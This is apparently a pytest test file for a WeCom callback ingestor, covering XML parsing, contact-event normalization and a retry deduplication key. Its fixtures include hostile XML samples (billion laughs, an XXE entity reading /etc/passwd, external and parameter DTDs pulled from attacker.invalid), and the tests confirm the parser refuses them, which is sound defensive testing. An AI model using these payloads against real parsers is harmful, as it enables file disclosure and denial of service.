"""Safe XML parsing and event normalization: WeCom's documented example end to end, every
contact ChangeType, events we only keep, hostile XML, and the retry de-duplication key."""

from __future__ import annotations

import contextlib
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.ingestor.wecom import (
    CONTACT_CHANGE_TYPES,
    CallbackCrypto,
    ErrorCode,
    WeComEvent,
    WeComEventError,
    WeComXmlError,
    dedup_key,
    normalize,
    parse_envelope,
    parse_event,
)
from tests.wecom_client import WeComClient, cdata

TOKEN = "Tk7q2Lw9ZpR4"
AES_KEY = "Hb3nQ9xLr2VtYc6wKm1sEa8uPz4dJf0gNo5iTq7yRkB"
CORP_ID = "toUser"

# docs/wecom.md section 1, "Example (add)", verbatim.
DOC_ADD_EXAMPLE = """\
<xml><ToUserName><![CDATA[toUser]]></ToUserName><FromUserName><![CDATA[sys]]></FromUserName>
<CreateTime>1403610513</CreateTime><MsgType><![CDATA[event]]></MsgType>
<Event><![CDATA[change_external_contact]]></Event><ChangeType><![CDATA[add_external_contact]]></ChangeType>
<UserID><![CDATA[zhangsan]]></UserID><ExternalUserID><![CDATA[woAJ2GCAAAXtWyujaWJHDDGi0mAAAA]]></ExternalUserID>
<State><![CDATA[teststate]]></State><WelcomeCode><![CDATA[WELCOMECODE]]></WelcomeCode></xml>
"""

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><ToUserName>&lol9;</ToUserName><Encrypt>&lol9;</Encrypt></xml>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>&xxe;</ToUserName><Encrypt>&xxe;</Encrypt></xml>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.invalid/evil.dtd">
<xml><ToUserName>a</ToUserName><Encrypt>b</Encrypt></xml>"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<xml><ToUserName>a</ToUserName><Encrypt>b</Encrypt></xml>"""
PLAIN_DTD = """<!DOCTYPE xml><xml><ToUserName>a</ToUserName><Encrypt>b</Encrypt></xml>"""
HOSTILE = {
    "billion-laughs": BILLION_LAUGHS,
    "external-entity": EXTERNAL_ENTITY,
    "external-dtd": EXTERNAL_DTD,
    "parameter-entity": PARAMETER_ENTITY,
    "plain-dtd": PLAIN_DTD,
}


def event_xml(**fields: str) -> str:
    """A decrypted callback as WeCom writes it: flat elements, text in CDATA."""
    return "<xml>" + "".join(f"<{k}>{cdata(v)}</{k}>" for k, v in fields.items()) + "</xml>"


def contact_fields(change_type: str, **extra: str) -> dict[str, str]:
    return {
        "ToUserName": CORP_ID,
        "FromUserName": "sys",
        "CreateTime": "1403610513",
        "MsgType": "event",
        "Event": "change_external_contact",
        "ChangeType": change_type,
        "UserID": "zhangsan",
        "ExternalUserID": "woAJ2GCAAAXtWyujaWJHDDGi0mAAAA",
        **extra,
    }


def event_of(fields: dict[str, str]) -> WeComEvent:
    return normalize(parse_event(event_xml(**fields).encode()))


# --- WeCom's documented example, end to end -----------------------------------------------


def test_documented_add_example_survives_the_whole_path() -> None:
    wecom = WeComClient(TOKEN, AES_KEY, CORP_ID)
    ours = CallbackCrypto(TOKEN, AES_KEY, CORP_ID)
    callback = wecom.callback(DOC_ADD_EXAMPLE, agent_id=None)

    envelope = parse_envelope(callback.body)
    assert (envelope.to_user_name, envelope.agent_id) == (CORP_ID, None)
    plain = ours.decrypt_verified(encrypt=envelope.encrypt, **callback.params)
    assert plain == DOC_ADD_EXAMPLE.encode()
    event = normalize(parse_event(plain))

    assert event == WeComEvent(
        corp_id="toUser",
        create_time=1403610513,
        msg_type="event",
        event="change_external_contact",
        change_type="add_external_contact",
        user_id="zhangsan",
        external_user_id="woAJ2GCAAAXtWyujaWJHDDGi0mAAAA",
        state="teststate",
        welcome_code="WELCOMECODE",
        source=None,
        fail_reason=None,
        raw=parse_event(DOC_ADD_EXAMPLE.encode()),
    )
    assert event.is_contact_change
    assert event.raw["FromUserName"] == "sys"


def test_retries_of_one_callback_share_the_dedup_key() -> None:
    wecom = WeComClient(TOKEN, AES_KEY, CORP_ID)
    ours = CallbackCrypto(TOKEN, AES_KEY, CORP_ID)
    keys = set()
    for _ in range(3):  # WeCom re-encrypts with fresh randomness and a fresh nonce each time
        callback = wecom.callback(DOC_ADD_EXAMPLE)
        plain = ours.decrypt_verified(encrypt=callback.encrypt, **callback.params)
        keys.add(dedup_key(normalize(parse_event(plain))))
    assert len(keys) == 1


# --- contact changes ------------------------------------------------------------------------


@pytest.mark.parametrize("change_type", sorted(CONTACT_CHANGE_TYPES))
def test_every_contact_change_type_normalizes(change_type: str) -> None:
    event = event_of(contact_fields(change_type))
    assert event.is_contact_change
    assert (event.change_type, event.user_id) == (change_type, "zhangsan")
    assert event.external_user_id == "woAJ2GCAAAXtWyujaWJHDDGi0mAAAA"


def test_there_are_exactly_the_six_documented_change_types() -> None:
    assert {
        "add_external_contact",
        "add_half_external_contact",
        "edit_external_contact",
        "del_external_contact",
        "del_follow_user",
        "transfer_fail",
    } == CONTACT_CHANGE_TYPES


def test_half_add_keeps_state_and_welcome_code() -> None:
    event = event_of(contact_fields("add_half_external_contact", State="qr-7", WelcomeCode="W"))
    assert (event.state, event.welcome_code) == ("qr-7", "W")


def test_empty_state_and_absent_welcome_code_stay_distinct() -> None:
    event = event_of(contact_fields("add_external_contact", State=""))
    assert event.state == ""
    assert event.welcome_code is None


def test_delete_by_transfer_keeps_its_source() -> None:
    event = event_of(contact_fields("del_external_contact", Source="DELETE_BY_TRANSFER"))
    assert event.source == "DELETE_BY_TRANSFER"
    assert event.fail_reason is None


@pytest.mark.parametrize("reason", ["customer_refused", "customer_limit_exceed"])
def test_transfer_fail_keeps_its_reason(reason: str) -> None:
    event = event_of(contact_fields("transfer_fail", FailReason=reason))
    assert event.fail_reason == reason


def test_create_time_tolerates_pretty_printing() -> None:
    xml = b"<xml>\n  <ToUserName>c</ToUserName>\n  <CreateTime>\n 1403610513 \n</CreateTime>\n"
    event = normalize(parse_event(xml + b"  <MsgType>event</MsgType>\n</xml>"))
    assert event.create_time == 1403610513


# --- events we only keep --------------------------------------------------------------------


@pytest.mark.parametrize(
    "fields",
    [
        pytest.param(contact_fields("add_external_contact_v2", Extra="1"), id="unknown-change"),
        pytest.param(
            {
                "ToUserName": CORP_ID,
                "FromUserName": "sys",
                "CreateTime": "1403610513",
                "MsgType": "event",
                "Event": "change_external_chat",
                "ChatId": "wrOgQhDgAAMYQiS5ol9G7gK9JVAAAA",
                "ChangeType": "update",
                "UpdateDetail": "add_member",
                "JoinScene": "1",
                "MemChangeCnt": "10",
            },
            id="change_external_chat",
        ),
        pytest.param(
            {
                "ToUserName": CORP_ID,
                "CreateTime": "1403610513",
                "MsgType": "event",
                "Event": "change_external_tag",
                "Id": "etm7wjCgAA",
                "TagType": "tag",
                "ChangeType": "create",
            },
            id="change_external_tag",
        ),
        pytest.param(
            {"ToUserName": CORP_ID, "CreateTime": "1", "MsgType": "text", "Content": "hi"},
            id="plain-message",
        ),
        pytest.param(
            {**contact_fields("add_external_contact"), "Event": "something_new"},
            id="known-change-type-other-event",
        ),
    ],
)
def test_other_events_are_kept_not_refused(fields: dict[str, str]) -> None:
    event = event_of(fields)
    assert not event.is_contact_change
    assert event.raw == fields
    assert len(dedup_key(event)) == 64


def test_raw_is_a_copy() -> None:
    fields = contact_fields("edit_external_contact")
    event = normalize(fields)
    fields["UserID"] = "changed"
    assert event.raw["UserID"] == "zhangsan"


def test_event_is_frozen_and_hashable() -> None:
    event = event_of(contact_fields("del_follow_user"))
    with pytest.raises(AttributeError):
        event.user_id = "other"  # type: ignore[misc]
    assert hash(event) == hash(event_of(contact_fields("del_follow_user")))


# --- required fields --------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["ToUserName", "CreateTime", "MsgType"])
@pytest.mark.parametrize("how", ["absent", "empty", "blank"])
def test_missing_required_field_is_refused(name: str, how: str) -> None:
    fields = contact_fields("add_external_contact")
    if how == "absent":
        del fields[name]
    else:
        fields[name] = "" if how == "empty" else "  \n"
    with pytest.raises(WeComEventError, match=name) as exc_info:
        normalize(fields)
    assert exc_info.value.code == ErrorCode.PARSE_XML


@pytest.mark.parametrize(
    "value", ["abc", "1403610513.5", "-1", "+1403610513", "1_403_610_513", "١٤٠٣", "1e9", "0x10"]
)
def test_create_time_must_be_integer_seconds(value: str) -> None:
    with pytest.raises(WeComEventError, match="CreateTime"):
        normalize(contact_fields("add_external_contact", CreateTime=value))


# --- dedup key ----------------------------------------------------------------------------------


def test_dedup_key_is_deterministic_hex() -> None:
    key = dedup_key(event_of(contact_fields("add_external_contact")))
    assert key == dedup_key(event_of(contact_fields("add_external_contact")))
    assert len(key) == 64
    assert int(key, 16) >= 0


@pytest.mark.parametrize(
    "change",
    [
        {"ToUserName": "otherCorp"},
        {"ChangeType": "del_follow_user"},
        {"UserID": "lisi"},
        {"ExternalUserID": "wmOther"},
        {"CreateTime": "1403610514"},
    ],
)
def test_dedup_key_changes_with_each_identifying_field(change: dict[str, str]) -> None:
    base = contact_fields("add_external_contact")
    assert dedup_key(normalize(base)) != dedup_key(normalize({**base, **change}))


def test_dedup_key_ignores_fields_outside_the_documented_key() -> None:
    base = contact_fields("add_external_contact", State="a", WelcomeCode="x")
    other = contact_fields("add_external_contact", State="b", WelcomeCode="y")
    assert dedup_key(normalize(base)) == dedup_key(normalize(other))


def test_dedup_key_has_no_concatenation_ambiguity() -> None:
    one = normalize(contact_fields("add_external_contact", UserID="ab", ExternalUserID="c"))
    two = normalize(contact_fields("add_external_contact", UserID="a", ExternalUserID="bc"))
    assert dedup_key(one) != dedup_key(two)


def test_dedup_key_tells_absent_from_empty() -> None:
    absent = contact_fields("del_follow_user")
    del absent["UserID"]
    empty = contact_fields("del_follow_user", UserID="")
    assert dedup_key(normalize(absent)) != dedup_key(normalize(empty))


def test_distinct_chat_events_in_one_second_keep_distinct_keys() -> None:
    chat = {
        "ToUserName": CORP_ID,
        "CreateTime": "1403610513",
        "MsgType": "event",
        "Event": "change_external_chat",
        "ChangeType": "update",
    }
    one = normalize({**chat, "ChatId": "wr1"})
    two = normalize({**chat, "ChatId": "wr2"})
    assert dedup_key(one) != dedup_key(two)
    assert dedup_key(one) == dedup_key(normalize({"ChatId": "wr1", **chat}))


# --- envelope ------------------------------------------------------------------------------------


def test_envelope_fields() -> None:
    body = b"<xml><ToUserName><![CDATA[ww1]]></ToUserName><Encrypt><![CDATA[QUJD]]></Encrypt>"
    envelope = parse_envelope(body + b"<AgentID><![CDATA[1000002]]></AgentID></xml>")
    assert (envelope.to_user_name, envelope.encrypt, envelope.agent_id) == (
        "ww1",
        "QUJD",
        "1000002",
    )


@pytest.mark.parametrize(
    "agent", ["", "<AgentID></AgentID>", "<AgentID><![CDATA[]]></AgentID>"], ids=repr
)
def test_envelope_without_agent_id(agent: str) -> None:
    envelope = parse_envelope(
        f"<xml><ToUserName>ww1</ToUserName><Encrypt>QUJD</Encrypt>{agent}</xml>"
    )
    assert envelope.agent_id is None


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("<xml><ToUserName>ww1</ToUserName><AgentID>1</AgentID></xml>", "Encrypt"),
        ("<xml><ToUserName>ww1</ToUserName><Encrypt></Encrypt></xml>", "Encrypt"),
        ("<xml><Encrypt>QUJD</Encrypt></xml>", "ToUserName"),
        ("<xml><ToUserName>ww1</ToUserName><x><Encrypt>QUJD</Encrypt></x></xml>", "Encrypt"),
        ("<root><ToUserName>ww1</ToUserName><Encrypt>QUJD</Encrypt></root>", "root"),
    ],
)
def test_envelope_missing_parts_are_refused(body: str, reason: str) -> None:
    with pytest.raises(WeComXmlError, match=reason) as exc_info:
        parse_envelope(body.encode())
    assert exc_info.value.code == ErrorCode.PARSE_XML


# --- parsing -------------------------------------------------------------------------------------


def test_cdata_and_plain_text_both_read() -> None:
    fields = parse_event(b"<xml><A><![CDATA[<b>&amp;]]></A><B>x &amp; y</B><C/></xml>")
    assert fields == {"A": "<b>&amp;", "B": "x & y", "C": ""}


def test_first_of_a_repeated_element_wins() -> None:
    fields = parse_event(
        b"<xml><ChangeType>first</ChangeType><ChangeType>second</ChangeType></xml>"
    )
    assert fields["ChangeType"] == "first"


@pytest.mark.parametrize("name", sorted(HOSTILE))
@pytest.mark.parametrize("parse", [parse_envelope, parse_event], ids=["envelope", "event"])
def test_hostile_xml_is_refused(name: str, parse: Callable[[bytes], object]) -> None:
    with pytest.raises(WeComXmlError, match="hostile XML refused") as exc_info:
        parse(HOSTILE[name].encode())
    assert exc_info.value.code == ErrorCode.PARSE_XML


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml",
        b"<xml>",
        b"<xml><a></xml>",
        b"<xml>&undefined;</xml>",
        b"<a/><b/>",
        b"<xml>\x00</xml>",
        b"\xff\xfe<\x00x\x00",
        b"<xml/>trailing",
        b"<event/>",
    ],
    ids=repr,
)
def test_malformed_xml_is_refused(body: bytes) -> None:
    with pytest.raises(WeComXmlError):
        parse_event(body)
    with pytest.raises(WeComXmlError):
        parse_envelope(body)


# --- properties -----------------------------------------------------------------------------------

XMLISH = st.one_of(
    st.text(),
    st.text(alphabet="<>/![]&;=\"'?xmlCDATAEncryptToUserName %#-\n \x00"),
    st.lists(
        st.sampled_from(
            [
                "<xml>",
                "</xml>",
                "<Encrypt>",
                "</Encrypt>",
                "<ToUserName>",
                "</ToUserName>",
                "<![CDATA[",
                "]]>",
                "<!DOCTYPE xml [",
                "<!ENTITY a 'b'>",
                "]>",
                "&a;",
                "&amp;",
                "<?xml version='1.0' encoding='utf-16'?>",
                "<!--",
                "-->",
                "abc",
                "\x00",
                "é",
            ]
        ),
        max_size=12,
    ).map("".join),
)


@settings(deadline=None)
@given(XMLISH)
def test_xmlish_text_only_raises_xml_errors(text: str) -> None:
    for data in (text, text.encode("utf-8", "surrogatepass")):
        for parse in (parse_envelope, parse_event):
            with contextlib.suppress(WeComXmlError):
                parse(data)


@settings(deadline=None)
@given(st.binary())
def test_random_bytes_only_raise_xml_errors(data: bytes) -> None:
    for parse in (parse_envelope, parse_event):
        with contextlib.suppress(WeComXmlError):
            parse(data)


@settings(deadline=None)
@given(st.dictionaries(st.sampled_from([*contact_fields("x"), "Source", "Foo"]), st.text()))
def test_normalize_only_raises_event_errors(fields: dict[str, str]) -> None:
    try:
        event = normalize(fields)
    except WeComEventError:
        return
    assert event.raw == fields
    assert len(dedup_key(event)) == 64
